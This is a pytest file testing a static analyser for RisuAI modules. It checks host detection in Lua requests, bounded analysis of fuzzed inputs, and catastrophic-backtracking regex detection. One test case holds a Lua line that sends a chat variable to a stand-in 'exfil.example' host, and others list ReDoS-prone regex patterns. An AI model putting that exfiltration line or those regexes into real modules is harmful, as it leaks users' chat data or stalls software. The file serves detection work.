"""Findings of a second audit of the analyser against RisuAI's source (stop 42)."""

from __future__ import annotations

from typing import Any

import pytest

from risutools.analysis import analyze
from risutools.analysis.lua import MAX_CALLS
from risutools.analysis.model import Analysis
from risutools.analysis.regexcheck import backtracking_risks
from risutools.analysis.walk_text import MAX_PATTERNS_CHECKED
from risutools.formats.model import Module


def lua(code: str, *, lla: bool = True) -> Analysis:
    data: dict[str, Any] = {"name": "T", "id": "t", "lowLevelAccess": lla, "trigger": [
        {"type": "start", "conditions": [], "effect": [{"type": "triggerlua", "code": code}]}]}
    return analyze(Module(data))


def hosts(a: Analysis) -> set[str]:
    return {h.name for h in a.network_hosts}


def rules(a: Analysis) -> list[str]:
    return [f.rule for f in a.findings]


@pytest.mark.parametrize("code,host", [
    # RisuAI's request is request(id, url): the address is the second argument
    ("function onStart(id) request(id, 'https://second.example/x') end", "second.example"),
    ("local U = 'https://const.example/a'\nfunction onStart(id) request(id, U) end",
     "const.example"),
    # the host is known when the literal first part of a concatenation holds all of it
    ("function onStart(id) request(id, 'https://exfil.example/c?d=' .. getChatVar(id, 's')) "
     "end", "exfil.example"),
    ("local B = 'https://base.example/'\nfunction onStart(id) request(id, B .. q) end",
     "base.example"),
    # the one-argument form (refused by RisuAI) still names where it points
    ("function onStart(id) request('https://first.example/') end", "first.example"),
])
def test_a_request_names_the_host_of_its_address(code: str, host: str) -> None:
    a = lua(code)
    assert hosts(a) == {host}
    assert "RA103" in rules(a) and "RA104" not in rules(a)


@pytest.mark.parametrize("code", [
    "function onStart(id) request(id, u) end",
    "function onStart(id) request(id, 'https://part' .. rest) end",  # (the host not whole)
    "function onStart(id) request(id, x .. 'https://late.example/') end",
])
def test_a_request_whose_host_is_computed_is_ra104(code: str) -> None:
    a = lua(code)
    assert "RA104" in rules(a) and "RA103" not in rules(a)


def _timed_analysis(data: dict[str, Any]) -> Analysis:
    return analyze(Module(data))


def test_many_buttons_naming_many_triggers_stay_linear() -> None:
    """Each button name's targets are found once (a fuzzing pass: 20,000 buttons naming
    20,000 triggers of one name took 184 s, each button given the whole list); this checks
    the facts are the ones the old loop made (the time: bench/RESULTS.md, round 17)."""
    n = 3000
    data: dict[str, Any] = {
        "name": "b", "id": "b", "lowLevelAccess": False,
        "regex": [{"comment": "c", "in": "x", "type": "editdisplay", "flag": "g",
                   "out": "{{button::l::F}}" * n}],
        "trigger": [{"type": "manual", "comment": "F", "conditions": [],
                     "effect": [{"type": "setvar", "var": "x", "value": "1"}]}] * n}
    a = _timed_analysis(data)
    [entry] = [e for e in a.manual_entries if e.name == "F"]
    assert entry.evidence[0].startswith("regex[0].out") and len(entry.evidence) == 20


def test_many_undeclared_toggle_reads_are_judged_against_an_index() -> None:
    """RA704's judge is built once a module (a fuzzing pass: 10,000 toggles and 40,000
    undeclared reads took 199 s, the declared keys folded again for every read)."""
    data: dict[str, Any] = {
        "name": "t", "id": "t", "lowLevelAccess": False,
        "customModuleToggle": "".join(f"mine.d{i}=L\n" for i in range(3000)) + "Keep=K\n",
        "regex": [{"comment": "c", "in": "x", "type": "editdisplay", "flag": "g",
                   "out": "{{getglobalvar::toggle_keep}}{{getglobalvar::toggle_mine.zz}}"
                   "{{getglobalvar::toggle_base.d7}}{{getglobalvar::toggle_other}}"
                   + "".join(f"{{{{getglobalvar::toggle_u{i}}}}}" for i in range(3000))}]}
    a = _timed_analysis(data)
    said = " ".join(f.message for f in a.findings if f.rule == "RA704")
    assert "near miss of the declared key 'Keep'" in said
    assert "own prefix 'mine.'" in said
    assert "its own key 'mine.d7' under another prefix" in said
    assert "toggle_other" not in said


@pytest.mark.parametrize("pattern,risky", [
    (r"(a{0,16}){16}b", True),          # 67 s in V8 on 17 characters (a fuzzing pass)
    (r"(\w{1,16}\s?){1,16}$", True),
    (r"(a{1,16}){1,16}$", True),
    (r"(a?){3}", False),                 # 8 ways
    (r"(?:a?){20}", False),              # 2^20 ways: under the bound
    (r"(a{1,3}){5}", False),             # 243 ways
    (r"(\d{1,3}\.){3}\d{1,3}", False),   # the counts cannot trade characters
])
def test_a_count_of_variable_width_under_a_count_is_weighed(pattern: str, risky: bool) -> None:
    assert bool(backtracking_risks(pattern)) is risky


def test_a_module_checks_a_bounded_number_of_distinct_patterns() -> None:
    """A fuzzing pass: 1,000,000 `/pattern/` pieces in one lorebook key took 29 s and 454
    MB.  The same pattern again is answered from its first check; past the bound one RA205
    says the rest were not checked."""
    n = MAX_PATTERNS_CHECKED + 50
    key = ",".join(f"/x{i}\\d+/g" for i in range(n)) + ",/(a+)+/g" * 3
    data: dict[str, Any] = {"name": "l", "id": "l", "lowLevelAccess": False, "lorebook": [
        {"key": key, "secondkey": "", "content": "x", "comment": "c", "mode": "normal",
         "useRegex": True}]}
    a = _timed_analysis(data)
    said = [f for f in a.findings if f.rule == "RA205"]
    assert len(said) == 1 and "were not checked" in said[0].message
    risky = ",".join(["/(a+)+/g"] * 5000)
    a = _timed_analysis({**data, "lorebook": [{**data["lorebook"][0], "key": risky}]})
    assert sum(f.rule == "RA201" for f in a.findings) >= 1


def test_a_host_call_past_the_call_bound_is_still_seen() -> None:
    """Past ``MAX_CALLS`` the first call of each name is kept: a privileged call hidden
    after that many others is still a use (with RA601 saying the rest were not kept)."""
    code = "getChatVar(id, 'k')\n" * (MAX_CALLS + 10) + "LLM(id, {})\n"
    a = lua(code)
    assert "LLM" in {p.name for p in a.privileged}
    assert any(f.rule == "RA601" and "calls" in f.message for f in a.findings)


def _module_with_triggers(triggers: list[dict[str, Any]]) -> Analysis:
    return analyze(Module({"name": "r", "id": "r", "lowLevelAccess": False,
                           "trigger": triggers}))


def test_many_runtrigger_effects_naming_many_triggers_stay_linear() -> None:
    """Each name ``runtrigger`` calls has its targets found once (the same shape as the
    buttons: every call was given the whole list of triggers of that name); this checks
    the facts are the ones the old loop made (the time: bench/RESULTS.md, round 17)."""
    n = 3000
    manual = {"type": "manual", "comment": "T", "conditions": [],
              "effect": [{"type": "setvar", "var": "x", "value": "1"}]}
    caller = {"type": "start", "conditions": [],
              "effect": [{"type": "runtrigger", "value": "T"}] * n}
    a = _module_with_triggers([caller] + [manual] * n)
    [entry] = [e for e in a.manual_entries if e.name == "T"]
    assert len(entry.evidence) == 20


@pytest.mark.parametrize("text", [
    " " * 20_000 + "/multisend hi",                # past the characters read
    "|".join(["/echo x"] * 60) + "|/multisend hi",  # past the commands read
])
def test_a_command_text_past_the_bounds_counts_as_any_command(text: str) -> None:
    a = _module_with_triggers([{"type": "start", "conditions": [],
                                "effect": [{"type": "command", "value": text}]}])
    assert "llm.call" in set(a.requires_names())
